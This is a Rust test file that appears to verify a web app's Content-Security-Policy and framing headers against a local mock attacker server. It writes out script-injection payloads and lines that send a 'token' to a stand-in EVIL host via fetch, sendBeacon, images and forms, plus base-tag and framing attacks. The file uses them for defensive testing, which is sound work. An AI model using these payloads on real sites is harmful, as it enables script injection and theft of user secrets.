//! Attacks on the page: each works without the headers, and is refused with them.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Router;
use axum::extract::{OriginalUri, Query, State};
use axum::http::header::{ACCESS_CONTROL_ALLOW_ORIGIN, CONTENT_TYPE};
use axum::response::{Html, IntoResponse, Response};
use serde_json::Value;

use crate::chromium::Chromium;
use crate::connection::PATIENCE;
use crate::example::Example;
use crate::page::Page;
use crate::serve;

/// A server of the attacker: hands out a script and a page with a frame, and notes what is asked.
#[derive(Clone, Default)]
struct Attacker {
    asked: Arc<Mutex<Vec<String>>>,
}

#[derive(serde::Deserialize)]
struct Target {
    frame: Option<String>,
}

impl Attacker {
    async fn start() -> (Self, String) {
        let attacker = Self::default();
        let router = Router::new().fallback(answer).with_state(attacker.clone());
        let origin = serve(router).await;
        (attacker, origin)
    }

    fn was_asked(&self, path: &str) -> bool {
        self.asked.lock().unwrap().iter().any(|asked| asked == path)
    }
}

async fn answer(
    State(attacker): State<Attacker>,
    Query(target): Query<Target>,
    OriginalUri(uri): OriginalUri,
) -> Response {
    attacker.asked.lock().unwrap().push(uri.path().to_owned());
    if let Some(frame) = target.frame {
        return Html(format!(
            "<!doctype html><link rel=icon href='data:,'><iframe src='{frame}'></iframe>"
        ))
        .into_response();
    }
    let script = "window.foreign = true; document.documentElement.dataset.foreign = 'ran'";
    (
        [
            (CONTENT_TYPE, "text/javascript"),
            (ACCESS_CONTROL_ALLOW_ORIGIN, "*"),
        ],
        script,
    )
        .into_response()
}

/// The example with and without its headers, and what an attack does on each.
struct Arena {
    browser: Chromium,
    bare: Example,
    strict: Example,
    attacker: Attacker,
    evil: String,
}

impl Arena {
    async fn open() -> Option<Self> {
        let browser = Chromium::launch(&[]).await?;
        let (attacker, evil) = Attacker::start().await;
        Some(Self {
            browser,
            bare: Example::start(&["--insecure-no-headers"]).await,
            // What the headers refuse by themselves; most of it does not get past a guard.
            strict: Example::start(&["--checks", "headers"]).await,
            attacker,
            evil,
        })
    }

    async fn page(&self, example: &Example) -> Page {
        let page = self.browser.page().await;
        page.goto(&format!("{}/", example.origin)).await;
        page.wait_for("document.documentElement.dataset.state === 'ready'")
            .await;
        page
    }

    /// Runs an attack on both pages. `worked` tells whether it did; it is asked until it is true
    /// on the bare page, and once the violation is there on the strict one.
    async fn attack(&self, attack: &str, worked: &str, directive: &str) {
        let attack = attack.replace("EVIL", &self.evil);
        let worked = worked.replace("EVIL", &self.evil);

        let bare = self.page(&self.bare).await;
        bare.eval::<Value>(&format!("void ({attack})"))
            .await
            .unwrap();
        bare.wait_for(&worked).await;

        let strict = self.page(&self.strict).await;
        // The attack may throw where the browser refuses it.
        let _ = strict.eval::<Value>(&format!("void ({attack})")).await;
        let refused = format!("__violations.some(v => v.directive === '{directive}')");
        strict.wait_for(&refused).await;
        assert_eq!(
            strict.eval::<bool>(&format!("Boolean({worked})")).await,
            Ok(false),
            "{attack}"
        );
    }
}

#[tokio::test]
async fn injected_code_does_not_run() {
    let Some(arena) = Arena::open().await else {
        return;
    };
    let ran = "window.injected";
    // An inline script.
    arena
        .attack(
            "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.injected = true'}))",
            ran,
            "script-src-elem",
        )
        .await;
    // A script of a foreign host.
    arena
        .attack(
            "document.body.append(Object.assign(document.createElement('script'), {src: 'EVIL/evil.js'}))",
            "window.foreign",
            "script-src-elem",
        )
        .await;
    // A module of a foreign host.
    arena
        .attack(
            "import('EVIL/module.js').catch(() => {})",
            "window.foreign",
            "script-src-elem",
        )
        .await;
    // An inline event handler, in markup.
    arena
        .attack(
            "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,x\" onerror=\"window.injected = true\">')",
            ran,
            "script-src-attr",
        )
        .await;
    // A handler that the script sets as an attribute.
    arena
        .attack(
            "(() => { const b = document.createElement('button'); b.setAttribute('onclick', 'window.injected = true'); document.body.append(b); b.click() })()",
            ran,
            "script-src-attr",
        )
        .await;
    // A `javascript:` URL.
    arena
        .attack(
            "(() => { const a = document.createElement('a'); a.href = 'javascript:void(window.injected = true)'; document.body.append(a); a.click() })()",
            ran,
            "script-src-elem",
        )
        .await;
    // Text made into code, three ways.
    for eval in [
        "eval('window.injected = true')",
        "Function('window.injected = true')()",
        "setTimeout('window.injected = true')",
    ] {
        arena.attack(eval, ran, "script-src").await;
    }
    assert!(
        arena.attacker.was_asked("/evil.js"),
        "the bare page fetched it"
    );
}

#[tokio::test]
async fn foreign_resources_are_not_fetched() {
    let Some(arena) = Arena::open().await else {
        return;
    };
    let bare = arena.page(&arena.bare).await;
    let strict = arena.page(&arena.strict).await;
    for (attack, directive) in [
        (
            "fetch('EVIL/stolen', {method: 'POST', body: 'token', mode: 'no-cors'}).catch(() => {})",
            "connect-src",
        ),
        (
            "navigator.sendBeacon('EVIL/stolen', 'token')",
            "connect-src",
        ),
        ("(new Image()).src = 'EVIL/stolen'", "img-src"),
        (
            "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'EVIL/stolen'}))",
            "style-src-elem",
        ),
        (
            "document.body.append(Object.assign(document.createElement('iframe'), {src: 'EVIL/stolen'}))",
            "frame-src",
        ),
    ] {
        let attack = format!("void ({})", attack.replace("EVIL", &arena.evil));
        // What a page learns of another origin's answer differs; that it asked, the server knows.
        bare.eval::<Value>(&attack).await.unwrap();
        until(|| arena.attacker.was_asked("/stolen")).await;
        arena.attacker.asked.lock().unwrap().clear();

        strict
            .eval::<Value>("void (__violations = [])")
            .await
            .unwrap();
        strict.eval::<Value>(&attack).await.unwrap();
        strict
            .wait_for(&format!(
                "__violations.some(v => v.directive === '{directive}')"
            ))
            .await;
        assert!(!arena.attacker.was_asked("/stolen"), "{attack}");
    }
}

/// Waits for what another task notes.
pub(crate) async fn until(done: impl Fn() -> bool) {
    let looks = async {
        while !done() {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    };
    tokio::time::timeout(PATIENCE, looks)
        .await
        .expect("it never happened");
}

#[tokio::test]
async fn a_base_does_not_move_the_pages_addresses() {
    let Some(arena) = Arena::open().await else {
        return;
    };
    arena
        .attack(
            "document.head.prepend(Object.assign(document.createElement('base'), {href: 'EVIL/'}))",
            "document.baseURI === 'EVIL/'",
            "base-uri",
        )
        .await;
}

#[tokio::test]
async fn a_form_does_not_leave_the_page() {
    let Some(arena) = Arena::open().await else {
        return;
    };
    let submit = format!(
        "void (() => {{ const f = document.createElement('form'); f.method = 'post'; f.action = '{}/form'; document.body.append(f); f.submit() }})()",
        arena.evil
    );
    let bare = arena.page(&arena.bare).await;
    bare.eval::<Value>(&submit).await.unwrap();
    bare.wait_for("location.pathname === '/form'").await;
    assert!(arena.attacker.was_asked("/form"));
    arena.attacker.asked.lock().unwrap().clear();

    let strict = arena.page(&arena.strict).await;
    strict.eval::<Value>(&submit).await.unwrap();
    // The sandbox stops it before `form-action` is asked, and says so in the console only.
    let looks = async {
        while !strict
            .console()
            .await
            .iter()
            .any(|line| line.text.contains("Blocked form submission"))
        {
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    };
    let looks = tokio::time::timeout(PATIENCE, looks).await;
    assert!(looks.is_ok(), "{:?}", strict.console().await);
    assert!(!arena.attacker.was_asked("/form"), "nothing was sent");
    let path: String = strict.eval("location.pathname").await.unwrap();
    assert_eq!(path, "/");
}

#[tokio::test]
async fn a_foreign_page_cannot_frame_it() {
    let Some(arena) = Arena::open().await else {
        return;
    };
    let framed = |example: &Example| format!("{}/?frame={}/", arena.evil, example.origin);

    let page = arena.browser.page().await;
    page.goto(&framed(&arena.bare)).await;
    let bare = page.frame(&arena.bare.origin).await;
    bare.wait_for("document.documentElement.dataset.state === 'ready'")
        .await
        .unwrap();

    let page = arena.browser.page().await;
    page.goto(&framed(&arena.strict)).await;
    let console = page.console().await;
    let [line] = &console[..] else {
        panic!("one line: {console:#?}")
    };
    assert!(line.text.contains("frame-ancestors 'none'"), "{line:?}");
    let own = format!("{}/", arena.strict.origin);
    let asked: Vec<String> = page
        .requests()
        .into_iter()
        .map(|request| request.url)
        .collect();
    assert!(asked.contains(&own), "the frame was asked for: {asked:?}");
    assert!(
        !asked.contains(&format!("{own}app.js")),
        "nothing of it ran: {asked:?}"
    );
}
